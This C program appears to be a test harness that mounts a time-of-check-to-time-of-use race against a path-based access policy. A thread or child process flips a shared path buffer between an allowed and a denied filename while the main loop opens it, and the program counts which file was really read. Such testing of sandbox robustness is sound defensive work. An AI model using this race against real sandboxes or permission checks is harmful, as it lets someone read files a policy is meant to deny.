/* The seed's TOCTOU attack: the path a policy judged is changed by another
 * thread (mode "thread") or by another process sharing the page (mode
 * "process") before the kernel reads it.  Opens PATH argv[2] times while the
 * buffer flips between argv[3] (allowed) and argv[4] (denied; same length),
 * and counts what was really opened, by its content's first byte. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

static char *buf;
static const char *good, *bad;

static void *flipper(void *arg) {
    (void)arg;
    size_t n = strlen(good) + 1;
    for (;;) {
        memcpy(buf, good, n);
        memcpy(buf, bad, n);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 5 || strlen(argv[3]) != strlen(argv[4])) return 2;
    long n = atol(argv[2]);
    good = argv[3];
    bad = argv[4];
    buf = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    strcpy(buf, good);
    pid_t kid = 0;
    if (!strcmp(argv[1], "thread")) {
        pthread_t th;
        pthread_create(&th, NULL, flipper, NULL);
    } else if ((kid = fork()) == 0) {
        flipper(NULL);
    }
    long counts[256] = {0};
    long denied = 0;
    for (long i = 0; i < n; i++) {
        int fd = open(buf, O_RDONLY);
        if (fd < 0) { denied++; continue; }
        unsigned char c = 0;
        if (read(fd, &c, 1) != 1) c = 0;
        counts[c]++;
        close(fd);
    }
    if (kid) { kill(kid, SIGKILL); waitpid(kid, NULL, 0); }
    printf("good %ld bad %ld denied %ld\n", counts[(unsigned char)'g'], counts[(unsigned char)'b'], denied);
    return 0;
}
